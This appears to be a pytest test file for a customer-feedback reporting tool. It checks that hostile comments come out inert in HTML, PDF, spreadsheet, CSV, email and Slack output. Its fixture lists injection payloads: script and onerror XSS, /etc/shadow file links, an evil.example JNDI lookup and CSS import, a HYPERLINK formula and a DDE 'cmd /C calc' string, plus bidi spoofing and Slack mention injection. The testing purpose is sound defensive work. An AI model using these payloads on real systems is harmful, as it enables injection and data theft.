"""What customers may write, through everything that shows it: inert and still readable."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import html.parser
import io
import json
import re
import zipfile
from functools import lru_cache
from pathlib import Path
from typing import Any

import example
import pikepdf
import pytest
from layout_tools import overflows
from pdf_tools import normal, pages_text
from python_calamine import CalamineWorkbook

from cxpulse.catalog.language import load_language
from cxpulse.core.report_model import Comment, Phrase, ReportModel
from cxpulse.delivery.content import AlertContent, AlertItem, Envelope, ReportContent
from cxpulse.delivery.formats import mail_report, slack_alert
from cxpulse.jobs.report_words import comments
from cxpulse.lake.rejects import write_rejects
from cxpulse.lake.store import lake_store
from cxpulse.rendering.page import report_html
from cxpulse.rendering.paper import Paper
from cxpulse.rendering.pdf import load, render_pdf
from cxpulse.rendering.workbook import render_workbook

HOSTILE = {
    "script": "<script>alert('x')</script> the basket is empty",
    "image": '<img src=x onerror="steal()"> broken picture',
    "file": '<img src="file:///etc/passwd"> and file:///etc/shadow too',
    "link": '<a href="http://evil.example/x">prize</a> http://evil.example/y',
    "style": "</p><style>@import 'http://evil.example/c.css'; * { display: none }</style> styled",
    "formula": '=HYPERLINK("http://evil.example","click") formula',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0 command",
    "bidi": "the invoice is called invoice\u202efdp.exe\u202c \u2067never closed",
    "zero": "ze\u200bro\u200d wi\u2060dth\ufeff and soft\u00adhyphen",
    "emoji": "\U0001f621\U0001f621 where is my sofa \U0001f468\u200d\U0001f469\u200d\U0001f466",
    "template": "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example} %(n)s %s",
    "slack": "<!channel> <@U1> <http://evil.example|here> *bold* `code` &amp;",
    "zalgo": "z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308algo",
    "control": "a\x00b\x08c\x1bd\x07 control",
    "long": "very long " * 1000,
    "unbroken": "x" * 10_000,
}
LANGUAGES = ("en", "fa", "th")
BAD_MARKS = re.compile("[\u202a-\u202e\u200b\u200d\u2060\ufeff\u00ad\x00-\x08\x0b\x0c\x0e-\x1f]")


@lru_cache(maxsize=1)
def model() -> ReportModel:
    """A week whose comments are all hostile, taken through the cleaning that the report's job does."""
    rows = [
        {
            "response_id": name, "comment": text, "score": 1 if i % 2 else 10, "scale": "nps", "scale_min": 0, "scale_max": 10,
            "satisfied_from": None, "direction": "higher_is_better", "touchpoint": "support", "channel": "app", "language": "en",
        }
        for i, (name, text) in enumerate(HOSTILE.items())
    ]  # fmt: skip
    found = comments(rows, (), None, limit=len(rows))
    assert len(found) == len(HOSTILE)
    return dataclasses.replace(example.quiet(), comments=found)


@lru_cache(maxsize=4)
def pdf(code: str) -> bytes:
    return render_pdf(model(), load_language(code))


class Tags(html.parser.HTMLParser):
    """Every tag with its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("code", LANGUAGES)
def test_html_holds_no_tag_of_theirs(code: str) -> None:
    page = report_html(Paper(model(), load_language(code)))
    tags = Tags(page).seen
    assert not {t for t, _ in tags} & {"script", "img", "a", "iframe", "link", "object", "embed", "form"}
    assert sum(t == "style" for t, _ in tags) == 1
    assert not any(name.startswith("on") or name in ("href", "src") for _, attrs in tags for name in attrs)
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; the basket is empty" in page
    assert not BAD_MARKS.search(page.split("<body", 1)[1])


@pytest.mark.parametrize("code", LANGUAGES)
def test_the_pdf_prints_them_as_text_without_links_or_actions(code: str) -> None:
    text = normal(" ".join(pages_text(pdf(code)))).replace(" ", "")
    for piece in (
        "<script>alert('x')</script>thebasketisempty",
        "{{7*7}}",
        "formula",
        "whereismysofa",
        "zerowidthandsofthyphen",
    ):
        assert piece in text
    assert "/etc/shadow" not in text
    assert "evil.example/y" not in text
    with pikepdf.open(io.BytesIO(pdf(code))) as opened:
        for item in opened.objects:
            if isinstance(item, pikepdf.Dictionary):
                assert not {"/URI", "/JS", "/Launch", "/OpenAction", "/AA", "/EmbeddedFile"} & set(
                    item.keys()
                )
                assert item.get("/S") not in ("/URI", "/JavaScript", "/Launch", "/GoToR", "/SubmitForm")
        assert sorted(opened.attachments) == ["figures.xlsx", "model.json"]


def test_ten_thousand_letters_neither_overflow_nor_fill_the_report() -> None:
    assert all(len(c.text) <= 241 for c in model().comments)
    assert overflows(load(report_html(Paper(model(), load_language("en")))).render()) == []
    assert len(pages_text(pdf("en"))) <= 7


def test_the_workbook_has_them_as_strings() -> None:
    data = render_workbook(model(), load_language("en"))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            assert b"<f>" not in content
            assert b"<hyperlink " not in content
            assert "externalLink" not in name
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    cells = [
        str(c) for sheet in book.sheet_names for row in book.get_sheet_by_name(sheet).to_python() for c in row
    ]
    assert any(c.startswith("=HYPERLINK(") and c.endswith("formula") for c in cells)
    assert not any(BAD_MARKS.search(c) for c in cells)


def test_the_json_is_one_document_with_clean_words() -> None:
    text = model().to_json()
    found = json.loads(text)["comments"]
    assert len(found) == len(HOSTILE)
    assert not BAD_MARKS.search(text.replace("\n", " "))
    with pikepdf.open(io.BytesIO(pdf("en"))) as opened:
        assert opened.attachments["model.json"].get_file().read_bytes().decode() == text


def test_rejected_rows_open_in_a_spreadsheet_without_computing(tmp_path: Path) -> None:
    store = lake_store(str(tmp_path), tmp_path)
    path = write_rejects(
        store,
        "run",
        [("s", "f.csv", i, "comment", text, "no score") for i, text in enumerate(HOSTILE.values())],
    )
    with Path(path).open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    assert len(rows) == len(HOSTILE) + 1
    assert all(cell[:1] not in tuple("=+-@\t\r") for row in rows for cell in row)
    assert rows[6][4].startswith("'=HYPERLINK")


def envelope(code: str) -> Envelope:
    return Envelope(
        key="0123456789abcdef",
        audience=f"weekly.{code}",
        address="director@novin.example",
        name="Director",
        language=load_language(code),
        sender="CX Pulse <cx@novin.example>",
        date=dt.datetime(2026, 11, 21, 3, 30, tzinfo=dt.UTC),
    )


def pairs() -> list[tuple[Comment, ...]]:
    """Two comments at a time, one of each side, so that every one is shown in some mail."""
    every = [
        dataclasses.replace(c, side=s)
        for c, s in zip(model().comments, ("complaint", "praise") * 8, strict=True)
    ]
    return [tuple(every[i : i + 2]) for i in range(0, len(every), 2)]


@pytest.mark.parametrize("code", LANGUAGES)
def test_mails_show_them_as_words(code: str) -> None:
    said = ""
    for two in pairs():
        mail = mail_report.write(
            ReportContent(dataclasses.replace(model(), comments=two), None, None), envelope(code)
        )
        tags = Tags(mail.html).seen
        assert not {t for t, _ in tags} & {"script", "img", "a", "style"}
        assert not any(name.startswith("on") for _, attrs in tags for name in attrs)
        assert not BAD_MARKS.search(mail.html + mail.text.replace("\n", " "))
        assert "evil.example/y" not in mail.text + mail.html
        said += mail.text
    for piece in ("the basket is empty", "formula", "{{ 7*7 }}", "control"):
        assert piece in said


def marked(block: Any) -> list[str]:
    """Every text in which Slack looks for mentions and links; in plain_text it does not."""
    if isinstance(block, dict):
        own = [block["text"]] if block.get("type") == "mrkdwn" else []
        return own + [text for value in block.values() for text in marked(value)]
    return [text for value in block for text in marked(value)] if isinstance(block, (list, tuple)) else []


@pytest.mark.parametrize("code", LANGUAGES)
def test_slack_posts_mention_nobody_and_link_nowhere(code: str) -> None:
    note = example.rich().alerts[0]
    said = ""
    for two in pairs():
        item = AlertItem(note, note.why[0], comments=two)
        content = AlertContent(
            "weekly", example.WEEK, example.WEEK + dt.timedelta(days=6), "opened", (item,), {"en": "N"}, 1.0
        )
        post = slack_alert.write(content, envelope(code))
        text = json.dumps(post.blocks, ensure_ascii=False) + post.text
        assert not re.search(r"<!|<@|<#|<http|\|here>", " ".join([*marked(post.blocks), post.text]))
        assert not re.search("[\u202a-\u202e\u200b\u2060\ufeff\x00-\x08]", text)
        said += text
    assert "the basket is empty" in said
    assert "<!channel>" in said


def test_phrases_are_plain_data() -> None:
    assert Phrase("x %(a)s", {"a": "{{ 7*7 }} %(b)s"}).values["a"] == "{{ 7*7 }} %(b)s"
    assert load_language("en").say(Phrase("x %(a)s", {"a": "{{ 7*7 }} %(b)s"})) == "X {{ 7*7 }} %(b)s"
